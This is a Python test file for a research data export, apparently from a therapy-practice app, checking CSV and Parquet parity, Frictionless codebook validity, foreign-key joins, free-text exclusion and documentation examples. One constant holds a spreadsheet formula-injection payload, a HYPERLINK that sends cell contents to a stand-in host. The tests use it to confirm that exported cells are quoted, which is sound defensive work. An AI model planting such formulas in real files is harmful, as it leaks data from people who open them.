"""The two formats hold the same data; the codebook (datapackage.json) describes every column
and nothing else and validates as a Frictionless Data package; every foreign key joins; free
text is left out unless the study includes it."""

from __future__ import annotations

from pathlib import Path

import duckdb
import frictionless
import pandas as pd
import pyarrow.parquet as pq

from bridgework.practice.models import CheckInScale, PracticeLog
from bridgework.research.export.tables import TABLES
from bridgework.research.export.writers import csv_safe
from bridgework.research.tests.helpers import (
    NOTE,
    TAKEAWAY,
    ExportTestCase,
    descriptor_of,
    export,
    load,
    study_pseudonym,
)


def file_columns(out: Path, name: str, fmt: str) -> list[str]:
    if fmt == "csv":
        return (out / f"{name}.csv").read_text(encoding="utf-8").splitlines()[0].split(",")
    return list(pq.read_schema(out / f"{name}.parquet").names)


FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1, "my notes")'


def as_in_csv(frame: pd.DataFrame, name: str) -> pd.DataFrame:
    """A table as its CSV holds it: words that start like a formula quoted (writers.csv_safe)."""
    for column in TABLES[name].columns:
        if column.may_hold_words and column.name in frame:
            frame[column.name] = pd.Series(
                [csv_safe(v) for v in frame[column.name]], dtype=object, index=frame.index
            )
    return frame


def count(db: duckdb.DuckDBPyConnection, sql: str) -> int:
    return int(db.execute(sql).fetchall()[0][0])


class FormatTests(ExportTestCase):
    def test_csv_and_parquet_give_the_same_data(self) -> None:
        for free_text in (False, True):
            self.study.include_free_text = free_text
            PracticeLog.objects.update(note=FORMULA)
            as_csv, _ = export(self.study, "csv")
            as_parquet, _ = export(self.study, "parquet")
            for name in TABLES:
                with self.subTest(table=name, free_text=free_text):
                    pd.testing.assert_frame_equal(
                        load(as_csv, name), as_in_csv(load(as_parquet, name), name)
                    )

    def test_a_csv_cell_that_starts_like_a_formula_is_quoted_and_parquet_keeps_it(self) -> None:
        self.study.include_free_text = True
        PracticeLog.objects.update(note=FORMULA)
        CheckInScale.objects.update(name="@anxiety")
        as_csv, _ = export(self.study, "csv")
        as_parquet, _ = export(self.study, "parquet")
        self.assertEqual(set(load(as_csv, "practice_logs")["note"]), {"'" + FORMULA})
        self.assertEqual(set(load(as_parquet, "practice_logs")["note"]), {FORMULA})
        self.assertIn("'@anxiety", set(load(as_csv, "ratings")["scale"]))
        self.assertIn("@anxiety", set(load(as_parquet, "ratings")["scale"]))
        self.assertNotIn("'", "".join(load(as_csv, "ratings")["rating_id"]))  # pseudonyms

    def test_the_codebook_lists_every_column_of_every_file_and_nothing_else(self) -> None:
        for fmt in ("csv", "parquet"):
            out, _ = export(self.study, fmt)
            resources = {r["name"]: r for r in descriptor_of(out)["resources"]}
            self.assertEqual(list(resources), [*TABLES, "withdrawn"])
            for name, resource in resources.items():
                with self.subTest(fmt=fmt, table=name):
                    fields = [f["name"] for f in resource["schema"]["fields"]]
                    self.assertEqual(fields, file_columns(out, name, fmt))
                    self.assertTrue(
                        all(f["description"] and f["source"] for f in resource["schema"]["fields"])
                    )

    def test_the_csv_package_validates_with_its_types_enums_and_keys(self) -> None:
        out, _ = export(self.study, "csv")
        report = frictionless.validate(out / "datapackage.json")
        self.assertTrue(report.valid, report.flatten(["title", "message"])[:5])

    def test_the_parquet_package_descriptor_is_a_valid_tabular_data_package(self) -> None:
        out, _ = export(self.study, "parquet")
        descriptor = descriptor_of(out)
        self.assertEqual(descriptor["profile"], "tabular-data-package")
        self.assertEqual(list(frictionless.Package.metadata_validate(descriptor)), [])
        resource = next(r for r in descriptor["resources"] if r["name"] == "prompts")
        self.assertEqual(resource["mediatype"], "application/vnd.apache.parquet")
        state = next(f for f in resource["schema"]["fields"] if f["name"] == "state")
        self.assertIn("answered", state["constraints"]["enum"])

    def test_the_codebook_gives_units_and_allowed_values(self) -> None:
        out, _ = export(self.study, "csv")
        ratings = next(r for r in descriptor_of(out)["resources"] if r["name"] == "ratings")
        value = next(f for f in ratings["schema"]["fields"] if f["name"] == "value")
        self.assertEqual(
            (value["type"], value["unit"], value["constraints"]),
            ("integer", "points", {"minimum": 0, "maximum": 100}),
        )
        self.assertNotIn("allowed", value)
        self.assertEqual(ratings["schema"]["primaryKey"], ["rating_id"])
        self.assertIn(
            {
                "fields": ["log_id"],
                "reference": {"resource": "practice_logs", "fields": ["log_id"]},
            },
            ratings["schema"]["foreignKeys"],
        )

    def test_frictionless_checks_the_ranges_and_codes_of_the_data(self) -> None:
        out, _ = export(self.study, "csv")
        ratings = out / "ratings.csv"
        header, first, *rest = ratings.read_text(encoding="utf-8").splitlines()
        ratings.write_text("\n".join([header, first.rsplit(",", 1)[0] + ",101", *rest]) + "\n")
        prompts = out / "prompts.csv"
        prompts.write_text(prompts.read_text(encoding="utf-8").replace(",answered,", ",maybe,"))
        report = frictionless.validate(out / "datapackage.json")
        errors = {tuple(e) for e in report.flatten(["type", "fieldName"])}
        self.assertIn(("constraint-error", "value"), errors)
        self.assertIn(("constraint-error", "state"), errors)

    def test_foreign_keys_name_only_tables_in_the_package(self) -> None:
        self.study.tables = ["clients", "practice_logs"]
        out, _ = export(self.study, "csv")
        logs = next(r for r in descriptor_of(out)["resources"] if r["name"] == "practice_logs")
        self.assertEqual([k["fields"] for k in logs["schema"]["foreignKeys"]], [["client_id"]])
        self.assertTrue(frictionless.validate(out / "datapackage.json").valid)


class JoinTests(ExportTestCase):
    def test_every_foreign_key_value_is_a_key_of_the_table_it_names(self) -> None:
        out, _ = export(self.study, "parquet")
        db = duckdb.connect()
        for name, table in TABLES.items():
            for columns, other, keys in table.references():
                with self.subTest(table=name, columns=columns):
                    given = " AND ".join(f"t.{column} IS NOT NULL" for column in columns)
                    joins = " AND ".join(
                        f"o.{key} = t.{column}" for column, key in zip(columns, keys, strict=True)
                    )
                    missing = count(
                        db,
                        f"SELECT count(*) FROM '{out}/{name}.parquet' t WHERE {given} AND NOT "
                        f"EXISTS (SELECT 1 FROM '{out}/{other}.parquet' o WHERE {joins})",
                    )
                    joined = count(
                        db, f"SELECT count(*) FROM '{out}/{name}.parquet' t WHERE {given}"
                    )
                    self.assertEqual(missing, 0)
                    self.assertGreater(joined, 0)

    def test_primary_keys_are_unique(self) -> None:
        out, _ = export(self.study, "parquet")
        for name, table in TABLES.items():
            with self.subTest(table=name):
                frame = load(out, name)
                self.assertFalse(frame.duplicated(list(table.primary_key)).any())

    def test_a_plan_rejoins_its_prompts_practice_review_and_next_questionnaire(self) -> None:
        out, _ = export(self.study, "parquet")
        chain = (
            duckdb.connect()
            .sql(
                f"""SELECT p.plan_id, pr.prompt_id, l.outcome, r.done, m.total
            FROM '{out}/plans.parquet' p
            JOIN '{out}/practice_logs.parquet' l ON l.plan_id = p.plan_id
            JOIN '{out}/prompts.parquet' pr ON pr.prompt_id = l.prompt_id
            JOIN '{out}/reviews.parquet' r ON r.plan_id = p.plan_id
            JOIN '{out}/measure_responses.parquet' m ON m.session_id = r.session_id
            WHERE p.client_id = '{study_pseudonym(self.study, "client", self.client_a.pk)}'"""
            )
            .fetchall()
        )
        self.assertEqual([row[2:] for row in chain], [("partly", 2, 17.0)])


class FreeTextTests(ExportTestCase):
    def all_values(self, out: Path) -> set[str]:
        values: set[str] = set()
        for name in TABLES:
            frame = load(out, name)
            for column in frame.columns:
                values.update(str(v) for v in frame[column].dropna())
        return values

    def test_free_text_is_left_out_unless_the_study_includes_it(self) -> None:
        out, _ = export(self.study, "csv")
        free = {c.name for c in TABLES["practice_logs"].columns if c.free_text}
        self.assertEqual(free & set(file_columns(out, "practice_logs", "csv")), set())
        values = self.all_values(out)
        self.assertFalse(
            [v for v in values if NOTE in v or "bus at rush hour" in v or "stops early" in v]
        )

    def test_an_export_with_free_text_has_the_free_text_columns(self) -> None:
        self.study.include_free_text = True
        out, _ = export(self.study, "parquet")
        self.assertEqual(set(load(out, "practice_logs")["note"].dropna()), {NOTE})
        self.assertIn(TAKEAWAY, set(load(out, "sessions")["takeaway"].dropna()))
        self.assertIn("Got off two stops early", set(load(out, "reviews")["how_it_went"].dropna()))
        for name, table in TABLES.items():
            with self.subTest(table=name):
                self.assertEqual(
                    file_columns(out, name, "parquet"), [c.name for c in table.columns]
                )


class DocumentationTests(ExportTestCase):
    """docs/research-export.md names every table and column, and its examples run."""

    page = (Path(__file__).parents[3] / "docs" / "research-export.md").read_text(encoding="utf-8")

    def example(self, language: str, out: Path) -> str:
        block = self.page.split(f"```{language}\n", 1)[1].split("```", 1)[0]
        return block.replace("export/", f"{out}/")

    def test_the_page_lists_every_table_with_its_columns(self) -> None:
        for name, table in TABLES.items():
            row = next(line for line in self.page.splitlines() if line.startswith(f"| `{name}` |"))
            listed = [c.strip(" *|") for c in row.split("|")[3].split(",")]
            self.assertEqual(listed, [c.name for c in table.columns], name)

    def test_its_duckdb_example_rejoins_plan_to_outcome(self) -> None:
        out, _ = export(self.study, "parquet")
        rows = duckdb.connect().execute(self.example("sql", out)).fetchall()
        self.assertEqual(len(rows), 2)  # one reviewed plan of each client, with its PHQ-9
        self.assertEqual({row[-1] for row in rows}, {17.0})

    def test_its_pandas_example_rejoins_plan_to_outcome(self) -> None:
        out, _ = export(self.study, "parquet")
        names: dict[str, object] = {}
        exec(self.example("python", out), names)
        outcome = names["outcome"]
        assert isinstance(outcome, pd.DataFrame)
        self.assertEqual(sorted(outcome["done"]), [2, 2])
